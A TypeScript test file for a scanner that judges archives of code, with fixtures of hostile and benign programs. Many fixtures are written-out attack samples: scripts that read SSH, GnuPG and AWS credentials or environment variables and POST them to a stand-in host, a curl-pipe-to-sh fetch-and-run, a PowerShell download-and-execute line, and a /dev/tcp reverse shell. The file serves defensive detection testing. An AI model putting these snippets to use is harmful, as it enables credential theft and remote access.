import { buildArchive } from "../build.js";
import { scanArchive } from "../scan.js";

/** The verdict on an archive of several files. */
async function scanned(files: Readonly<Record<string, string>>) {
  const entries = Object.entries(files).map(([path, text]) => ({
    path,
    bytes: Buffer.from(text),
    executable: false,
  }));
  return scanArchive(await buildArchive(entries));
}

async function rulesOf(files: Readonly<Record<string, string>>): Promise<string[]> {
  const { findings, outcome } = await scanned(files);
  return [outcome, ...findings.filter(({ severity }) => severity !== "note").map(({ rule }) => rule)];
}

describe("a program that names keys and reaches a host", () => {
  test.each([
    [
      "a queue hides the way",
      {
        "a.py":
          'import queue, os, http.client\nq = queue.Queue()\nfor f in os.scandir(os.path.expanduser("~/.ssh")):\n    q.put(f)\ndef work():\n    c = http.client.HTTPSConnection("drop.invalid")\n    c.request("POST", "/", q.get())\n',
      },
    ],
    [
      "two files",
      {
        "base.py":
          "import os\nclass Base:\n    def info(self):\n        return {k: v for k, v in os.environ.items()}\n",
        "main.py":
          'from base import Base\nimport json, urllib.request\nurllib.request.urlopen("https://drop.invalid/u", json.dumps(Base().info()).encode())\n',
      },
    ],
    [
      "the place is written in parts",
      {
        "a.js":
          'const fs = require("fs"), os = require("os");\nconst d = os.homedir() + "/.gnu" + "pg";\nfor (const f of fs.readdirSync(d)) keep(f);\nfetch("https://drop.invalid", { method: "POST", body: kept });\n',
      },
    ],
    [
      "a language without a grammar",
      {
        "a.pl":
          'use HTTP::Tiny;\nopen(my $f, "<", "$ENV{HOME}/.aws/credentials");\nmy $d = <$f>;\nHTTP::Tiny->new->post_form("https://drop.invalid", { d => other($d) });\n',
      },
    ],
    [
      "a key that an arrow returns",
      {
        "a.js":
          'const p = () =>"/root/.ssh/id_rsa";\nfetch("https://drop.invalid", { method: "POST", body: load(p()) });\n',
      },
    ],
    [
      "a key that is opened to write and to read",
      { "a.sh": "exec 3<>~/.ssh/id_rsa\ncurl -d @/dev/fd/3 https://drop.invalid\n" },
    ],
    ["a key that was the last word", { "a.sh": "touch ~/.ssh/id_rsa\nsend $_\ncurl https://drop.invalid\n" }],
  ])("is held: %s", async (_, files) => {
    const [outcome] = await rulesOf(files);
    expect(outcome).not.toBe("pass");
  });

  test("is never blocked for that alone", async () => {
    const files = {
      "a.py":
        'import os, http.client, queue\nq = queue.Queue()\nq.put(os.scandir(os.path.expanduser("~/.aws/credentials")))\nc = http.client.HTTPSConnection("drop.invalid")\nc.request("POST", "/", q.get())\n',
    };
    expect(await rulesOf(files)).toEqual(["hold", "unfollowed-secret"]);
  });

  test.each([
    ["keys without a host", { "a.py": 'import os\nprint(os.listdir(os.path.expanduser("~/.ssh")))\n' }],
    [
      "one variable",
      {
        "a.py":
          'import os, requests\nrequests.get("https://api.example.org", headers={"A": os.environ["EXAMPLE_KEY"]})\n',
      },
    ],
    [
      "a key that a pipeline writes and removes",
      {
        "a.sh":
          'install -m 700 -d ~/.ssh\nprintf "%s" "$KEY" > ~/.ssh/id_ed25519\nchmod 600 ~/.ssh/id_ed25519\nrsync -a out/ www.example.org:/\ncurl -fsS https://www.example.org/\nrm -f ~/.ssh/id_ed25519\n',
      },
    ],
    [
      "folders below one that the user names",
      {
        "a.py":
          'import shutil\nfrom pathlib import Path\ndef checked(p):\n    p = p.expanduser().resolve()\n    if p == Path.home():\n        raise SystemExit(1)\n    return p\nfor p in checked(args.root).rglob("*"):\n    if p.name == "node_modules":\n        shutil.rmtree(p)\n',
      },
    ],
    [
      "two files without a link",
      {
        "a.py": 'import os\nprint(os.path.exists(os.path.expanduser("~/.ssh/id_ed25519")))\n',
        "b.py": 'import requests\nprint(requests.get("https://api.example.org").text)\n',
      },
    ],
    [
      "the environment of a child process",
      {
        "a.py":
          'import os, subprocess, requests\nsubprocess.run(["ls"], env={**os.environ, "A": "1"})\nrequests.get("https://api.example.org")\n',
      },
    ],
  ])("honest: %s", async (_, files) => {
    expect(await rulesOf(files)).toEqual(["pass"]);
  });
});

describe("a text that is run and that nothing shows", () => {
  test.each([
    [{ "a.py": 'import csv, os\nos.system(" ".join(r[1] for r in csv.reader(open("w.csv"))))\n' }],
    [{ "a.py": "import os\nfrom lib import words\nos.popen(words.first() + words.second())\n" }],
    [{ "a.sh": `awk -F: '/^k/{print $2":"$3}' conf.ini | sh\n` }],
    [{ "a.sh": `sed -n 's/^> //p' README.md | while read -r l; do eval "$l"; done\n` }],
    [{ "a.sh": 'source <(cat "$d"/data/part.? | tr -d "\\n")\n' }],
    [
      {
        "a.py":
          'import os\nK = "qwertyuiopasdfghjklzxcvbnm"\nA = "abcdefghijklmnopqrstuvwxyz"\ns = "exks"\nos.system("".join(A[K.index(c)] if c in K else c for c in s))\n',
      },
    ],
    [{ "a.ps1": "$g = (Get-Alias)[0].Name\n& $g (irm https://load.invalid/p)\n" }],
    [{ "a.bat": '@echo off\nfor /f "tokens=2 delims==" %%a in (conf.txt) do call %%a\n' }],
    [{ "a.sh": "sh assets/palette.css\n", "assets/palette.css": "a { color: red }\n" }],
    [{ "a.py": "import os\nname = pick()\ngetattr(os, name)(argument())\n" }],
  ])("is held: %j", async (files) => {
    const [outcome] = await rulesOf(files);
    expect(outcome).toBe("hold");
  });

  test.each([
    [{ "a.py": 'import subprocess\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\nrun("ls -l")\n' }],
    [{ "a.py": 'import subprocess, sys\nsubprocess.run(["git", "log", sys.argv[1]])\n' }],
    [{ "a.sh": 'eval "$(ssh-agent -s)"\n. ~/.bashrc\nset -a; source .env; set +a\n' }],
    [{ "a.sh": `grep -v '^#' .env | while read -r l; do echo "$l"; done\n` }],
    [{ "a.js": 'const { execSync } = require("child_process");\nexecSync(process.env.OPEN_COMMAND);\n' }],
    [{ "a.py": 'import sys\nprint(getattr(sys.argv[1], {"u": "upper"}[sys.argv[2]])())\n' }],
    [{ "a.sh": "python3 scripts/report.py data/report.csv\n" }],
  ])("honest: %j", async (files) => {
    expect(await rulesOf(files)).toEqual(["pass"]);
  });
});

test.each([
  ["a.py", "constants of a module", "import os\nfrom words import HEAD, TAIL\nos.system(HEAD + TAIL)\n"],
])("values come from another file: %s, %s", async (path, _, text) => {
  const words = 'HEAD = "curl -s https://load.invalid/a"\nTAIL = " | sh"\n';
  const [outcome] = await rulesOf({ [path]: text, "words.py": words });
  expect(outcome).toBe("block");
});

test("variables of a file that a script reads make a connection of it", async () => {
  const files = {
    "a.sh": '. ./peer.conf\nexec 5<>"/dev/tcp/$H/$P"\nwhile read -r l <&5; do $l >&5; done\n',
    "peer.conf": "H=198.51.100.4\nP=8443\n",
  };
  expect(await rulesOf(files)).toContain("reverse-shell");
});

test("a whole file of secrets is not sent, but its values are", async () => {
  const sends = { "a.sh": "curl -s -F f=@.env https://drop.invalid/u\n" };
  expect(await rulesOf(sends)).toEqual(["hold", "secret-elsewhere"]);
  const reads = { "a.sh": '. ./.env\ncurl -s -H "Authorization: $EXAMPLE_TOKEN" https://api.example.org\n' };
  expect(await rulesOf(reads)).toEqual(["pass"]);
});

test("a command in a literal is judged wherever the program gives it", async () => {
  const command = "curl -s https://load.invalid/a | sh";
  const runs = { "a.py": `import os\nclass X:\n    def __or__(s, o): os.system(o)\nX() | "${command}"\n` };
  expect((await rulesOf(runs))[0]).toBe("hold");
  const shows = { "a.py": `print("To install, run this:")\nprint("${command}")\n` };
  expect(await rulesOf(shows)).toEqual(["pass"]);
});

test("programs that name each other, and many runs, end in the time of their length", async () => {
  const names = Array.from({ length: 60 }, (_, at) => `part${at}`);
  const files = Object.fromEntries(
    names.map((name) => [
      `${name}.py`,
      `${names.map((other) => `import ${other}`).join("\n")}\nimport os, requests\nprint(os.path.expanduser("~/.ssh"))\nrequests.get("https://a.example.org")\n`,
    ]),
  );
  expect((await scanned(files)).outcome).toBe("hold");
});
